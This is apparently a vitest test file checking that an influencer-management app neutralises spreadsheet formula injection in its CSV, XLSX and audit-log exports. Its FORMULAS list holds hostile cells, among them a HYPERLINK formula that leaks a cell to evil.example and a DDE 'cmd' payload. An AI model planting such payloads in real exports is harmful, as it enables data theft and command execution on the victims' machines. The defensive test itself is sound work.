import Papa from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { contract, type Operation, readOperations } from '../../src/platform/http/contract.ts';
import { startTestServer, type TestServer } from '../kit/startTestServer.ts';
import { createAccount } from '../matrix/callers.ts';

/** What spreadsheets would calculate, run or fetch, with the disguises that have been seen. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1;"Mia")',
  "=cmd|'/C calc'!A0",
  '+49-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '  =1+1',
  'Mia\n=1+1',
  'Mia\r\n@SUM(A1)',
  '"=1+1"',
  '＝1+1',
  '%0A=1+1',
  "'=1+1",
  'a;=1+1',
  'a,=1+1',
];

/** A cell that a spreadsheet takes for a formula, at its start or at the start of one of its lines. */
const isFormula = (cell: string): boolean =>
  cell.split(/\r\n|\r|\n/).some((line) => /^[\s"]*[=+\-@|＝＋－＠]/.test(line) && !/^-?\d+(?:,\d+)?$/.test(line));

function operationOf(id: string): Operation {
  const operation = readOperations(contract).find((each) => each.id === id);
  if (operation === undefined) throw new Error(`${id} is no call.`);
  return operation;
}

describe('cells that look like formulas', () => {
  let server: TestServer;
  let token: string;
  let superToken: string;
  beforeAll(async () => {
    server = await startTestServer({ database: 'embedded' });
    token = (await createAccount(server, '9')).accessToken;
    superToken = (await createAccount(server, '6')).accessToken;
  });
  afterAll(() => server.stop());

  const post = (id: string, body: string | FormData, bearer: string): Promise<Response> =>
    fetch(`${server.url}/api${operationOf(id).path}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${bearer}`,
        ...(typeof body === 'string' ? { 'content-type': 'application/json' } : {}),
      },
      body,
    });
  const csvRows = async (response: Response): Promise<string[][]> => {
    expect(response.status).toBe(200);
    return Papa.parse<string[]>((await response.text()).replace('\uFEFF', ''), { delimiter: ';' }).data;
  };

  test('come in by an import as texts and go out by an export harmless', async () => {
    const head = ['Vorname', 'Nachname', 'E-Mail', 'Stadt', 'Management', 'Kanal'];
    const rows = FORMULAS.map((formula, index) => [
      'Mia',
      formula,
      `mia${index}@example.com`,
      formula,
      formula,
      `https://www.instagram.com/mia${index}`,
    ]);
    const form = new FormData();
    form.append(
      'file',
      new File([Papa.unparse([head, ...rows], { delimiter: ';', newline: '\r\n' })], 'liste.csv', { type: 'text/csv' }),
    );
    const fields = ['firstName', 'surname', 'email', 'city', 'management', 'channelUrl'];
    form.append(
      'mapping',
      JSON.stringify({ columns: fields.map((field, column) => ({ column, field })), skipInvalidRows: true }),
    );
    const imported = await post('importInfluencers', form, token);
    expect(imported.status).toBe(200);
    const { data } = (await imported.json()) as { data: { newInfluencers: number; skipped: number } };
    expect(data.newInfluencers + data.skipped).toBe(FORMULAS.length);
    expect(data.newInfluencers).toBeGreaterThan(5);
    // What the import's rules reject may have come in by another way: a form, an older version.
    await server.db
      .insertInto('influencers')
      .values(
        FORMULAS.map((formula, index) => ({
          first_name: formula,
          surname: formula,
          email: `direkt${index}@example.com`,
          city: formula,
          management: formula,
        })),
      )
      .returning('id')
      .execute()
      .then((people) =>
        server.db
          .insertInto('channels')
          .values(
            people.map(({ id }, index) => ({
              influencer_id: id,
              platform: 'Blog',
              channel_type: 'blog',
              url: `https://blog${index}.example`,
              handle: FORMULAS[index] ?? '',
            })),
          )
          .execute(),
      );

    for (const language of ['de', 'en']) {
      const cells = (
        await csvRows(await post('exportInfluencers', JSON.stringify({ format: 'csv', language }), token))
      ).flat();
      expect(cells.length).toBeGreaterThan(FORMULAS.length * 10);
      expect(cells.filter(isFormula)).toEqual([]);
    }
    const xlsx = await post('exportInfluencers', JSON.stringify({ format: 'xlsx', language: 'de' }), token);
    const bytes = Buffer.from(await xlsx.arrayBuffer());
    // Texts of a workbook are texts: the file has no formula at all.
    const [sheet] = await readExcelFile(bytes);
    const texts = (sheet?.data ?? []).flat().filter((cell) => typeof cell === 'string');
    expect(texts).toContain(FORMULAS[0]);
    expect(bytes.toString('latin1')).not.toMatch(/<f[ >]/);
  });

  test('stay harmless in the exported audit log', async () => {
    const target = await createAccount(server, '9');
    for (const reason of FORMULAS) {
      await post('changeUserStatus', JSON.stringify({ userId: target.id, isActive: false, reason }), superToken);
      await post('changeUserStatus', JSON.stringify({ userId: target.id, isActive: true, reason }), superToken);
    }
    await server.db
      .insertInto('audit_log')
      .values(
        FORMULAS.map((entity) => ({
          operation: entity,
          action: 2,
          entity,
          reason: entity,
          outcome: 200,
          request_id: 'request-1',
          at: server.clock.now(),
        })),
      )
      .execute();
    const cells = (await csvRows(await post('exportLogs', JSON.stringify({ language: 'de' }), superToken))).flat();
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter(isFormula)).toEqual([]);
  });
});
